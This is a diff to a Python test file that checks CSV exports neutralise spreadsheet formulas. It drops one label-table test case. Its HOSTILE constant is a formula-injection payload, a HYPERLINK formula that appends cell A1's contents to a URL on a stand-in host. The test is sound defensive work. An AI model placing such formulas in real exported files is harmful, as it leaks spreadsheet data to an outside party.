@@ -21,7 +21,6 @@ from shared.csv_cells import CsvWriter, neutral, plain
 from shared.ids import new_id
 from shared.vocabulary.states import ModelState
 from tests.requirements import REPOSITORY
-from trainer.datasets.vinbigdata import COLUMNS, read_table, write_table
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"see")'
 #: The only module that may make a writer of the standard library's.
@@ -141,24 +140,12 @@ def of_studies(_: Path) -> str:
     return file.getvalue()
 
 
-def of_a_label_table(_: Path) -> str:
-    row = [HOSTILE, HOSTILE, "1", HOSTILE, "1", "2", "3", "4"]
-    file = io.StringIO()
-    csv.writer(file).writerows([COLUMNS, row])
-    written = write_table(read_table(file.getvalue().encode()))
-    assert write_table(read_table(written.encode())) == written
-    assert read_table(written.encode()).images[0].file_name == HOSTILE
-    return written
-
-
 class _Fields:
     def __init__(self, fields: dict[str, object]) -> None:
         self.__dict__.update(fields)
 
 
-@pytest.mark.parametrize(
-    "write", [of_the_manifest, of_the_commands_manifest, of_findings, of_studies, of_a_label_table]
-)
+@pytest.mark.parametrize("write", [of_the_manifest, of_the_commands_manifest, of_findings, of_studies])
 def test_no_csv_holds_a_formula(write: Callable[[Path], str], tmp_path: Path) -> None:
     cells = [cell for row in csv.reader(io.StringIO(write(tmp_path), newline="")) for cell in row]
     assert any(cell.startswith(f"'{HOSTILE}") for cell in cells)
